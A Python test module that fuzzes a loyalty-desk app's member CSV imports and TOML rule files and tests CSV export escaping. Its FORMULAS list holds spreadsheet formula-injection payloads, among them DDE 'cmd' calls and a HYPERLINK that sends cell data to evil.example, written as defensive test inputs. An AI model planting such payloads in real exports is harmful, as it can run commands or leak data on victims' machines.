"""Bad files: member CSV imports, rule files (TOML) and CSV exports that a spreadsheet opens.

An import is checked row by row (bad rows reported, good rows in) or refused whole; a rule
file is published whole or refused whole; an export never hands Excel a formula.
"""

from __future__ import annotations

import csv
import io
from dataclasses import asdict
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from loyalty_desk.domain.errors import Refusal
from loyalty_desk.domain.rules import DEFAULT_RULES, RuleSet, rules_from_mapping
from loyalty_desk.services import checkout, members, rules
from loyalty_desk.services.desk import Desk
from loyalty_desk.services.importing import ImportReport, import_members
from loyalty_desk.services.reports_csv import neutralise
from loyalty_desk.services.usecase import unwrap
from tests.adversarial.conftest import EXAMPLES, PIN, tried
from tests.adversarial.test_parsers import TEXT
from tests.helpers import db_fingerprint

FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz-files-scratch")


# -- member CSV import ----------------------------------------------------------------------

HEADERS = st.lists(
    st.sampled_from(["phone", "手机", "name", "姓名", "birthday", "points", "积分", "x", ""]),
    max_size=5,
)
CELL = st.one_of(
    TEXT,
    st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True),
    st.sampled_from(["1990-02-29", "2024-02-29", "1899-12-31", "9999-12-31", "-5", "10000001"]),
)


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    if draw(st.booleans()):
        return draw(st.binary(max_size=300))
    header = draw(HEADERS)
    rows = draw(st.lists(st.lists(CELL, max_size=6), max_size=6))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1"]))
    return text.encode(encoding, errors="replace")


@FUZZ
@given(csv_files())
def test_member_csv_imports(desk: Desk, scratch: Path, raw: bytes) -> None:
    tried("member CSV import")
    path = scratch / "members.csv"
    path.write_bytes(raw)
    before = db_fingerprint(desk)
    report = import_members(desk, path)
    if isinstance(report, Refusal):
        assert db_fingerprint(desk) == before
        return
    assert isinstance(report, ImportReport)
    assert report.imported + len(report.rejected) == report.rows
    assert db_fingerprint(desk)[0] == before[0] + report.imported


def test_an_oversized_csv_field_is_a_rejected_file_not_a_crash(desk: Desk, tmp_path: Path) -> None:
    """csv stops at a field over 128 KiB with csv.Error; the import must say so."""
    path = tmp_path / "huge.csv"
    path.write_text("phone,name\n13812345678," + "王" * 200_000 + "\n", encoding="utf-8")
    before = db_fingerprint(desk)
    result = import_members(desk, path)
    assert isinstance(result, Refusal) and "line 2" in result.message.lower()
    assert db_fingerprint(desk) == before


def test_a_nul_byte_in_a_csv_is_reported(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"phone,name\n13812345670,Wang\x00Fang\n")
    report = import_members(desk, path)
    assert not isinstance(report, Refusal) or report.message
    if not isinstance(report, Refusal):
        assert report.imported == 0 and report.rejected[0].code == "INVALID_NAME"


# -- rule files ------------------------------------------------------------------------------

LEAF = st.one_of(
    st.integers(-(2**65), 2**65),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.text(max_size=10),
    st.dates().map(str),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)


@st.composite
def rule_mappings(draw: st.DrawFn) -> dict[str, Any]:
    """The default rules as a mapping, with a few leaves replaced by anything at all."""
    data: dict[str, Any] = asdict(DEFAULT_RULES)
    data.pop("version", None)
    for _ in range(draw(st.integers(1, 4))):
        section = draw(st.sampled_from(sorted(k for k, v in data.items() if isinstance(v, dict))))
        keys = [*sorted(data[section]), "no_such_rule"]
        data[section][draw(st.sampled_from(keys))] = draw(LEAF)
    return data


@FUZZ
@given(rule_mappings())
def test_rule_mappings(data: dict[str, Any]) -> None:
    tried("rule set (mapping)")
    parsed = rules_from_mapping(data)
    assert isinstance(parsed, (RuleSet, list))
    if isinstance(parsed, list):
        assert parsed and all(p.message for p in parsed)


@FUZZ
@given(st.one_of(st.binary(max_size=200), TEXT.map(lambda t: t.encode("utf-8", "replace"))))
def test_rule_files(desk: Desk, scratch: Path, raw: bytes) -> None:
    tried("rule file (TOML)")
    path = scratch / "rules.toml"
    path.write_bytes(raw)
    before = db_fingerprint(desk)
    result = rules.publish_local(desk, path, date(2030, 1, 1), manager_pin=PIN)
    if isinstance(result, Refusal):
        assert result.message and db_fingerprint(desk) == before
    else:  # an empty file, or one that happens to be a valid rule table
        assert isinstance(result, rules.RuleVersion)


@pytest.mark.parametrize(
    "body",
    [
        "[expiry]\nmonths = 1000000000\n",
        "[tiers]\nterm_months = 999999999999\n",
    ],
)
def test_rules_that_would_break_every_award_are_refused(
    desk: Desk, tmp_path: Path, body: str
) -> None:
    """Expiry a billion months away passed the check, then every award died computing the
    lot's expiry date (year out of range). Now the rule file is refused."""
    path = tmp_path / "rules.toml"
    path.write_text(body, encoding="utf-8")
    tried("rule file (TOML)")
    result = rules.publish_local(desk, path, date(2026, 3, 10), manager_pin=PIN)
    assert isinstance(result, Refusal), result
    phone = f"1381234{len(body):04d}"
    code = unwrap(members.enroll(desk, phone, "Rules"))
    assert not isinstance(checkout.earn(desk, code.code, f"RULES-{phone}", 10_000), Refusal)


# -- CSV export: formula injection ------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "＝1+1",  # full-width equals: some spreadsheets in CJK locales read it as =
    "﹦1+1",  # small equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_neutralised(text: str) -> None:
    tried("CSV export cell")
    assert neutralise(text).startswith("'")


@FUZZ
@given(TEXT)
def test_any_exported_text_cell_cannot_start_a_formula(text: str) -> None:
    tried("CSV export cell")
    cell = neutralise(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "﹦", "＋", "－", "＠"))
